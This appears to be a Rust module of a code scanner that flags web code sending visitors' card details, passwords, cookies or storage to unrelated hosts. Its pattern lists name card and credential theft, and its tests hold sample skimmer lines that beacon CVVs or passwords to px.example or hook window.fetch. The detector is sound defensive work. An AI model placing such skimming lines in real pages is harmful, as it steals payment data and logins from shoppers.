//! Code of a page or a shop that sends what its visitors type, their cards and passwords, to a machine that has no part in it.

use std::cell::LazyCell;

use super::leaks::elsewhere;
use super::source::{Written, dense, is_comment};
use crate::policy::lists::{holds, parts};
use crate::policy::spans;

const FORMS: &str = "js|mjs|cjs|ts|tsx|jsx|mts|cts|vue|svelte|html|htm|php|phtml|liquid|twig|erb|ejs|hbs|astro|py|rb|go|java|kt|cs|dart|swift";

/// What sends something and hears no answer, and what may hear one.
const UNHEARD: &str =
    "sendBeacon(|sendBeacon?.(|Image(|.src=|.src =|WebSocket(|EventSource(|backgroundImage|prefetch|importScripts(";
const SENDS: &str = "fetch(|axios.post(|axios.get(|axios(|$.post(|$.get(|$.ajax(|.open(|requests.post(|requests.get(|httpx.post(|Http::post(|\
    file_get_contents(|HTTParty.post(|Net::HTTP.post|http.Post(|http.PostForm(|ky.post(|got.post(|urlopen(";

/// What nobody but whoever is paid, or whoever signs somebody in, needs; in small letters.
const CARD: &str = "cvc|cvv|securitycode|security_code|cardnumber|card_number|card.number|card-number|ccnum|card[number]|cardpin|\
    card.pan|.pan,|stringify(card)|stringify(card,|stringify({card|stringify({ card|stringify(carddata|stringify(carddetails|stringify(cardinfo|\
    stringify(creditcard|stringify(payment)|stringify(paymentdetails|stringify(credentials|stringify(creds|dumps(card)|dumps(credentials|iban|password|passwd|passphrase|.otp|one-time-code|seedphrase|mnemonic|privatekey|pincode|creditcard";

/// Who somebody is to a site, as a page or what stands before it is told; in small letters.
const KEPT: &str = "get('authorization')|get(\"authorization\")|get('cookie')|get(\"cookie\")|document.cookie|...localstorage|stringify(localstorage|\
    entries(localstorage|...sessionstorage|stringify(sessionstorage|headers.authorization";

/// What all requests of a page go through, and what is told of them by whoever stands there, without blanks.
const WRAPS: &str = "window.fetch=|globalThis.fetch=|self.fetch=|XMLHttpRequest.prototype.send=|interceptors.request.use(|HTMLFormElement.prototype.submit=";
const BODIES: &str = ".body|arguments[0]|config.data|req.data|cfg.data";
const BODY: &str = "(body|+body|,body|:body|{body";
const OWN: &str = "const body|let body|var body";

/// Whose business payments are: a number may go there.
const PAID: &str = "stripe.|braintree|adyen|paypal|square|checkout.com|mollie|authorize.net|worldpay|cybersource|klarna|razorpay|spreedly|recurly|\
    chargebee|paddle|basistheory|verygood|evervault|payment|psp|vault|tokeniz|firebase|auth0|okta|cognito|supabase|clerk|login|accounts.|identity|sso";

/// How far what is sent stands behind the call, in bytes.
const NEAR: usize = 400;

/// Whether a text sends what is typed to another machine, as the one before it did not, or has a form do so.
pub(super) fn are_put_in(written: &Written<'_>) -> bool {
    written.is_form(FORMS)
        && written.holds("http|//")
        && !written.is_tried()
        && (written.gains(sends) || written.before.is_some() && written.gains(posts_form))
}

fn sends(text: &str) -> bool {
    let wraps = LazyCell::new(|| holds(text, "fetch =|prototype|interceptors") && holds(&dense(text), WRAPS));
    let gives = |at: usize, held: bool| gives(text, at, held, *wraps);
    let at = |list: &'static str| parts(list).flat_map(|call| text.match_indices(call).take(super::MAX_PLACES));
    let is_copy = |at: usize| holds(spans::behind(text, at, NEAR), "no-cors|keepalive");
    at(UNHEARD).any(|(at, call)| gives(at + call.len(), true))
        || at(SENDS).any(|(at, call)| gives(at + call.len(), is_copy(at)) && is_unanswered(text, at))
}

/// Whether the arguments of a call name another machine and what somebody typed; or, where `held` counts, a name that was given to it
/// shortly before.
fn gives(text: &str, from: usize, held: bool, wraps: bool) -> bool {
    let behind = spans::behind(text, from, NEAR);
    let end = behind.find(";\n").unwrap_or(behind.len());
    let given = &behind[..end];
    let host = given.split_once("//").and_then(|(_, url)| elsewhere(url));
    let hands_on = || {
        let given = dense(given).replace("body:", "").replace("document.body", "");
        holds(&given, BODIES) || holds(&given, BODY) && !holds(text, OWN)
    };
    host.is_some_and(|host| !holds(&host, PAID))
        && (names_card(given) || wraps && hands_on() || held && names_held(text, from, given))
}

/// Whether one of the names in what is given was made of what somebody typed: `const b = btoa(card.value)`.
fn names_held(text: &str, from: usize, given: &str) -> bool {
    const LEAST_NAMES: usize = 32;
    let before = spans::before(text, from, NEAR * 2);
    let is_part = |char: char| char.is_alphanumeric() || char == '_' || char == '$';
    let named = |name: &str| !name.is_empty() && given.split(|char| !is_part(char)).any(|word| word == name);
    before.match_indices('=').take(LEAST_NAMES).any(|(at, _)| {
        let name = before[..at].trim_end().rsplit(|char| !is_part(char)).next().unwrap_or_default();
        let value = &before[at + 1..];
        let value = &value[..value.find(";\n").or_else(|| value.find('\n')).unwrap_or(value.len())];
        !value.starts_with(['=', '>']) && named(name) && names_card(value)
    })
}

/// Whether a text names what is on a card, or a password; the field of a form alone tells nothing.
fn names_card(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    (holds(&lower, CARD) || holds(&lower, KEPT))
        && !holds(&lower, "last4|masked|passwordreset|password_reset|password-reset|haspassword|nopassword")
}

/// Whether nobody waits for what a call gives back, or cares.
fn is_unanswered(text: &str, at: usize) -> bool {
    let line = text[..at].rsplit('\n').next().unwrap_or_default();
    let before = line.trim().trim_end_matches("window.").trim_end_matches("void ").trim_end();
    let behind = spans::behind(text, at, NEAR);
    let statement = &behind[..behind.find(";\n").unwrap_or(behind.len())];
    !is_comment(line)
        && (holds(statement, "no-cors|keepalive")
            || (before.is_empty() || before.ends_with(['{', ';', ':', '@'])) && !statement.contains(".then("))
}

/// Whether a form whose fields are a card's goes to another machine.
fn posts_form(text: &str) -> bool {
    const FORM: usize = 1500;
    parts("action=\"|action='|.action = '|.action = \"|.action='|formaction=\"").any(|action| {
        text.match_indices(action).take(super::MAX_PLACES).any(|(at, _)| {
            let url = &text[at + action.len()..];
            let around = spans::around(text, at, FORM);
            let away = url.strip_prefix("https://").or_else(|| url.strip_prefix("http://")).and_then(elsewhere);
            away.is_some_and(|host| !holds(&host, PAID)) && names_card(around)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_typed_and_sent_elsewhere_is_seen() {
        for (text, seen) in [
            ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ n: v.number, c: v.cvc }));", true),
            ("new Image().src = `https://px.example/p?c=${card.cvv}`;", true),
            ("fetch('https://px.example/p', { method: 'POST', mode: 'no-cors', body: form.password.value });", true),
            ("const r = await fetch('https://api.shop.example/pay', { body: JSON.stringify({ cvc }) });", false),
            ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ page: location.pathname }));", false),
            ("const b = btoa(f.cvc.value);\nnew Image().src = 'https://px.example/p?v=' + b;", true),
            ("const b = btoa(f.page.value);\nnew Image().src = 'https://px.example/p?v=' + b;", false),
            (
                "window.fetch = (i, o) => { navigator.sendBeacon('https://px.example/c', i + o.body); return f(i, o); };",
                true,
            ),
            ("window.fetch = (i, o) => { navigator.sendBeacon('https://px.example/c', i); return f(i, o); };", false),
            ("navigator.sendBeacon('/metrics', JSON.stringify({ cvc: v.cvc }));", false),
            ("fetch('https://api.stripe.com/v1/tokens', { body: new URLSearchParams({ 'card[cvc]': cvc }) });", false),
        ] {
            let written = Written::of(text, None, "/home/you/work/shop/src/pay.ts");
            assert_eq!(are_put_in(&written), seen, "{text}");
        }
    }
}
